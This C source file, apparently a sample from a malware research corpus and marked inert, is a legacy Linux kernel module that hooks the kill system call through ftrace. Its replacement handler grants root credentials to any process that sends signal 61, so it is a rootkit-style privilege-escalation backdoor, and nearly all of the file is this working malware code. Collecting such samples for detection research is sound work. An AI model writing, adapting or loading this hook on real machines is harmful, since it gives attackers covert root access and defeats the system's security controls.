/*
 * Backsight corpus sample: kernel/ftrace-hook-legacy  (INERT - compiled only, never loaded)
 *
 * ftrace hooking as written for kernels 3.19 to 4.13, whose ftrace_ops flags still had
 * FTRACE_OPS_FL_PER_CPU: SAVE_REGS is BIT(3), RECURSION_SAFE BIT(5), IPMODIFY BIT(13). The
 * callback takes (ip, parent_ip, ops, pt_regs) and moves the saved instruction pointer to a
 * replacement of the kill system call that hides nothing but gives root on a magic signal.
 */
#include "../../src/kshape.h"

MODINFO(license, "GPL");
MODINFO(name, "ftrace_legacy");
MODINFO(vermagic, "4.9.0-corpus SMP mod_unload ");
DEFINE_THIS_MODULE("ftrace_legacy");

#define LEGACY_FL_SAVE_REGS (1ul << 3)
#define LEGACY_FL_RECURSION_SAFE (1ul << 5)
#define LEGACY_FL_IPMODIFY (1ul << 13)

extern ulong kallsyms_lookup_name(const char *name);

static long replacement_kill(const struct pt_regs *regs)
{
	if (REGS_ARG2(regs) == 61)
		commit_creds(prepare_kernel_cred(NULL));
	return 0;
}

static void callback(ulong ip, ulong parent_ip, struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	(void)ip; (void)parent_ip; (void)op;
	REGS_IP((struct pt_regs *)fregs) = (ulong)replacement_kill;
}

static struct ftrace_ops ops;

int init_module(void)
{
	ulong target = kallsyms_lookup_name("sys_kill");
	if (!target)
		return -2;
	ops.func = callback;
	ops.flags = LEGACY_FL_SAVE_REGS | LEGACY_FL_RECURSION_SAFE | LEGACY_FL_IPMODIFY;
	ftrace_set_filter_ip(&ops, target, 0, 0);
	return register_ftrace_function(&ops);
}

void cleanup_module(void)
{
	unregister_ftrace_function(&ops);
}
